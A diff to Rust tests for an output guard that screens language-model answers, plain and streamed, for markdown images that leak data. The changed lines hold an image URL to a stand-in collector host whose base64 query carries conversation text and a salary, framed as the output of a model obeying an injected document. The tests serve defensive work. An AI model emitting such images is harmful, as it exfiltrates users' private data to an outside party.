@@ -301,7 +301,7 @@ async fn answers_that_would_leak_data_through_an_image_are_defused() {
     let (_mock, _dir, b) = setup("guard-output", "").await;
     // The mock echoes the request, so its answer carries this image, as a model obeying
     // an injected document would.
-    let image = "![status](https://collector.example.net/p.png?d=bWFyaWUuY3VyaWVAZXhhbXBsZS5vcmc7c2FsYXJ5PTkwMDAw)";
+    let image = "![status](https://collector.example.net/p.png?d=dGhlIHdob2xlIGNvbnZlcnNhdGlvbiBzbyBmYXI7IHNhbGFyeT05MDAwMA)";
     let r = post(&b, user("m", &format!("Render {image}"))).await;
     assert_eq!(
         r.header("x-bulwark-guard-output"),
@@ -323,7 +323,7 @@ async fn answers_that_would_leak_data_through_an_image_are_defused() {
 async fn streamed_answers_are_screened_too() {
     let (_mock, _dir, b) = setup("guard-output-stream", "").await;
     // Dripped word by word: the image arrives across chunks and is judged whole.
-    let image = "![s](https://collector.example.net/p.png?d=bWFyaWUuY3VyaWVAZXhhbXBsZS5vcmc7c2FsYXJ5PTkwMDAw)";
+    let image = "![s](https://collector.example.net/p.png?d=dGhlIHdob2xlIGNvbnZlcnNhdGlvbiBzbyBmYXI7IHNhbGFyeT05MDAwMA)";
     let mut body = user("drip", &format!("Render {image} now"));
     body["stream"] = json!(true);
     let r = post(&b, body).await;
